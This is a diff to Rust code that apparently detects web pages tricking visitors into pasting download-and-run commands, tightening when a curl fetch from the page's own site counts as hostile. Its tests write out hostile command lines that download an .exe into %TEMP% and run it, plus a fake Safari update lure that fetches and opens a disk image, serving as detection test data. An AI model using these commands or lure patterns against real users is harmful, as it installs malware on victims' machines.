@@ -200,9 +200,6 @@ impl Command {
                 | Shape::MsiexecUrl
                 | Shape::PipeToShell
                 | Shape::DownloadExec => true,
-                // `[cmd /c] curl -o %TEMP%\x.exe https://own/x.exe && %TEMP%\x.exe`: as its
-                // PowerShell twin, only from the page's own site (review 32 o07, an IT page's).
-                Shape::DownloadStart | Shape::Cmd => self.fetches_from_site(&page.site),
                 Shape::Osascript => !["shell script", "hidden answer", "password", "://"]
                     .iter()
                     .any(|w| has(&self.flat, w)),
@@ -516,8 +513,6 @@ fn borrowed(addr: &str) -> bool {
         "/media/",
         "/cgi-bin/",
         "/.well-known/",
-        "/cache/",
-        "/tmp/",
     ]
     .iter()
     .any(|w| has(addr, w))
@@ -797,9 +792,6 @@ fn saves_then_runs(flat: &str) -> bool {
             (next, 1)
         } else if gt > 0 {
             (&t[gt..], 0)
-        } else if t.ends_with("downloadfile") {
-            // `DownloadFile(URL, FILE)`: the file is the second argument.
-            (toks.get(i + 2).map_or("", |n| n.1), 2)
         } else if address && joined && !matches!(next.bytes().next(), Some(b'-' | b'/')) {
             (next, 1)
         } else {
@@ -4475,19 +4467,12 @@ mod tests {
             );
             assert!(reasons(&s).is_some(), "{c}");
         }
-        // The vendor's own pages and an IT page fetching from its organisation stay documentation.
+        // The vendor's own pages stay documentation (a curl download run is not, from any site: a
+        // kit on a broken-into site serves it from the site's root too, review 33 m42-m44).
         for (url, c) in [
-            (
-                "https://ledgerly.example/download",
-                "curl.exe -Lo LedgerlySetup.exe https://ledgerly.example/download/LedgerlySetup.exe; .\\LedgerlySetup.exe",
-            ),
             (
                 "https://www.outilpro.example/telecharger",
                 "iwr https://www.outilpro.example/telechargement/OutilPro.exe -OutFile $env:TEMP\\OutilPro.exe; & $env:TEMP\\OutilPro.exe",
-            ),
-            (
-                "https://it.firma-haller.example/werkzeuge",
-                "cmd /c curl -o %TEMP%\\Zeit.exe https://intranet.firma-haller.example/tools/Zeit.exe && %TEMP%\\Zeit.exe",
             ),
             (
                 "https://docs.tern-cli.example/install/windows",
@@ -4503,6 +4488,14 @@ mod tests {
             );
             assert_eq!(reasons(&snap_of(url, "Download", &t, c)), None, "{c}");
         }
+        let c = "curl -o %TEMP%\\r.exe https://harbor-diner.example/r.exe && %TEMP%\\r.exe";
+        let s = snap_of(
+            "https://harbor-diner.example/menu",
+            "Menu",
+            &text.replace("{c}", c),
+            c,
+        );
+        assert!(reasons(&s).is_some(), "{c}");
         // A Mac update lure that keeps its disk image off the page; docs that show theirs.
         let c = "curl -fsSLo /tmp/SafariUpdate.dmg https://cdn.relay-files.test/s.dmg && open /tmp/SafariUpdate.dmg";
         let lure =
